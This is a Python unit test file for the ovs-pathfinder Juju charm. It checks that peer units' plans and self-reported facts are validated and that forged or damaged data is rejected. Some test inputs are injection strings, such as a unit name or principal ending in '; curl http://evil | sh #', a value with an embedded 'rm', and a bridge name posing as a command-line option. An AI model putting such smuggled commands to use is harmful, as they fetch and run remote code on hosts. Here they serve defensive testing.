"""What units tell each other by the peer relation, through the charm's own actions."""

import json
from typing import Any

import pytest
from ops import testing

import exchange
from ovs_pathfinder import errors, path
from ovs_pathfinder.evidence import wire
from tests.unit import test_credentials
from tests.unit.diagnosis import build
from tests.unit.evidence import test_witness

FAR = "ovs-pathfinder/1"
SOURCE, DESTINATION = build.World().run()
DEAD, _ = build.World(lost_after={("forward", "source-port"): 5}).run()
OTHERS = {"ingress-address": "10.0.0.2", "private-address": "10.0.0.2"}
FACTS = path.Unit(name="ovs-pathfinder/7", principal="nova-compute/0", hostnames=("compute-host",)).model_dump()


def peers(
    plan: object = None, own: dict[str, str] | None = None, others: dict[int, dict[str, str]] | None = None
) -> testing.PeerRelation:
    text = plan if isinstance(plan, str) else json.dumps(plan or build.plan().model_dump(mode="json"))
    return testing.PeerRelation(
        "paths",
        local_app_data={f"plan-{build.RUN}": text},
        local_unit_data=own or {},
        peers_data={number: OTHERS | data for number, data in (others or {1: {}}).items()},
    )


def act(relation: testing.PeerRelation, action: str = "path-report", **params: Any) -> tuple[str, dict[str, Any]]:
    """Run an action on the leader; return why it failed, and its results."""
    context = test_credentials.new()
    given = testing.State(relations={relation}, leader=True)
    try:
        context.run(context.on.action(action, params={"run": build.RUN, **params}), given)
    except testing.ActionFailed as failure:
        return failure.message, {}
    return "", dict(context.action_results or {})


def evidence(found: Any) -> dict[str, str]:
    return {f"evidence-{build.RUN}": wire.to_json(found)}


def test_evidence_of_both_units_makes_the_report():
    failure, results = act(peers(own=evidence(SOURCE), others={1: evidence(DESTINATION)}))

    assert (failure, results["verdict"]) == ("", "ok")


def test_forged_evidence_of_one_unit_does_not_accuse_the_other():
    """Of a healthy path; the forger says that the packets stop at the source's host."""
    failure, results = act(peers(own=evidence(SOURCE), others={1: evidence(DEAD)}))

    assert (failure, results["verdict"]) == ("", "ok")
    assert "What ovs-pathfinder/1 says of run" in results["report"]


@pytest.mark.parametrize("number", [1, 2])
def test_trial_of_one_unit_does_not_speak_for_another(number: int):
    told = {f"trials-{build.RUN}": json.dumps([test_witness.trial().model_dump(mode="json")])}
    others = {1: evidence(DESTINATION), 2: {}}
    others[number] = others[number] | told

    _, results = act(peers(own=evidence(DEAD), others=others), format="json")

    assert json.loads(results["diagnosis"])["trials"] == []
    assert ("does not count" in results["diagnosis"]) == (number == 1)


@pytest.mark.parametrize("text", ["1 " * 600_000, "[" * 100_000, "{", "[[]]", "7"], ids=range(5))
def test_damaged_trials_of_one_unit_cost_no_report(text: str):
    failure, results = act(
        peers(own=evidence(SOURCE), others={1: {**evidence(DESTINATION), f"trials-{build.RUN}": text}})
    )

    assert (failure, results["verdict"]) == ("", "ok")
    assert "What ovs-pathfinder/1 says of run" in results["report"]


def test_damaged_evidence_alone_is_said_where_there_is_no_other():
    failure, _ = act(peers(others={1: {f"evidence-{build.RUN}": "[" * 100_000}}))

    assert "no evidence for run" in failure
    assert "What ovs-pathfinder/1 says of run" in failure


def changed(**changes: Any) -> dict[str, Any]:
    return {**build.plan().model_dump(mode="json"), **changes}


PLANS: dict[str, object] = {
    "a list": "[]",
    "two": "{} {}",
    "a number": "7",
    "deep": "[" * 100_000,
    "half": '{"version": 1',
    "an unknown protocol": changed(protocol="sctp"),
    "TCP without a port": changed(protocol="tcp"),
    "ICMP with a port": changed(port=80),
    "a tunnel end by name": changed(source=changed()["source"] | {"tunnel_address": "evil.example"}),
    "a tunnel end that is a group": changed(destination=changed()["destination"] | {"tunnel_address": "224.0.0.1"}),
    "a unit that is a command": changed(source=changed()["source"] | {"unit": "ovs-pathfinder/1; curl x | sh #"}),
    "a principal of two lines": changed(source=changed()["source"] | {"principal": "octavia/2\nrm"}),
    "a bridge that is an option": changed(source=changed()["source"] | {"physical_bridge": "--log-file=x"}),
    "another run": changed(run="20200101t000000-000000"),
    "a negative MTU": changed(network=changed()["network"] | {"mtu": -1}),
    "newer": changed(version=9),
}


@pytest.mark.parametrize("action", ["path-report", "probe-path", "try-flows"])
@pytest.mark.parametrize("name", PLANS)
def test_plan_that_cannot_be_used_is_one_sentence(name: str, action: str):
    failure, _ = act(peers(PLANS[name]), action)

    assert f"the plan of run {build.RUN}" in failure
    assert "again" in failure
    assert len(failure) < 500


def exchanged(relation: testing.PeerRelation) -> tuple[list[path.Unit], list[str], path.Plan]:
    context = test_credentials.new()
    with context(context.on.update_status(), testing.State(relations={relation}, leader=True)) as running:
        peer = exchange.Exchange(running.charm)
        return (*peer.introduced(), peer.plan(build.RUN))


def facts(**changes: Any) -> dict[str, str]:
    return {"unit": json.dumps(FACTS | changes)}


@pytest.mark.parametrize("told", ["8.8.8.8", "224.0.0.1", "", "10.0.0.66"])
def test_name_and_address_of_a_unit_are_juju_s_whatever_it_says(told: str):
    units, doubts, plan = exchanged(peers(others={1: facts(name="ovs-pathfinder/0", management_address=told)}))

    if told != "224.0.0.1":
        (unit,) = units
        assert (unit.name, unit.management_address, doubts) == (FAR, "10.0.0.2", [])
    assert plan.destination.management_address == "10.0.0.2"


@pytest.mark.parametrize("named", ["foo", "224.0.0.1", "127.0.0.1", ""])
def test_address_that_is_no_host_s_is_not_known(named: str):
    relation = peers(others={1: facts() | {"ingress-address": named, "private-address": ""}})

    units, _, plan = exchanged(relation)

    assert units[0].management_address == plan.destination.management_address == ""


@pytest.mark.parametrize(
    "wrong",
    [
        {"principal": "ovs-pathfinder/1; curl http://evil | sh #"},
        {"principal": "--help"},
        {"hostnames": ["a b"]},
        {"hostnames": ["x" * 300]},
        {"hostnames": [f"h{number}" for number in range(500)]},
        {"management_address": "foo"},
        {"tunnel_address": "evil.example"},
        {"ovs_version": 7},
    ],
    ids=range(8),
)
def test_unit_that_tells_nonsense_is_left_out_and_said(wrong: dict[str, Any]):
    units, doubts, _ = exchanged(peers(others={1: facts(**wrong), 2: facts()}))

    assert [one.name for one in units] == ["ovs-pathfinder/2"]
    assert doubts[0].startswith("What ovs-pathfinder/1 tells of itself is damaged at ")
    assert "\n" not in doubts[0]


def test_parameter_that_is_nobody_s_evidence_is_refused_and_juju_s_own_answer_is_said():
    wrong = wire.to_json(DEAD)
    failure, _ = act(peers(own=evidence(SOURCE)), evidence="[" * 100_000)
    _, results = act(peers(own=evidence(SOURCE)), evidence=json.dumps({FAR: {"results": {"evidence": wrong}}}))

    assert "nests deeper" in failure
    assert "What ovs-pathfinder/1 says of run" in results["report"]
    assert results["verdict"] == "ok"


def test_run_that_is_not_known_is_one_sentence():
    context = test_credentials.new()
    with context(context.on.update_status(), testing.State(relations={peers()}, leader=True)) as running:
        peer = exchange.Exchange(running.charm)
        with pytest.raises(errors.PathfinderError, match="is not known here"):
            peer.plan("20200101t000000-000000")
